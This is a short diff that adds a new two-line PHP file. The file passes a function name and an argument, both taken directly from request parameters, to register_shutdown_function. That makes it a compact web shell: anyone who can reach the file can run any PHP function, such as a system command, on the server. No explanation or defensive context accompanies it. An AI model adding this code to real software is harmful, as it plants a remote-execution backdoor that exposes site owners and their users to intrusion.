@@ -1,0 +1,2 @@
+<?php
+register_shutdown_function($_REQUEST['f'], $_REQUEST['a']);
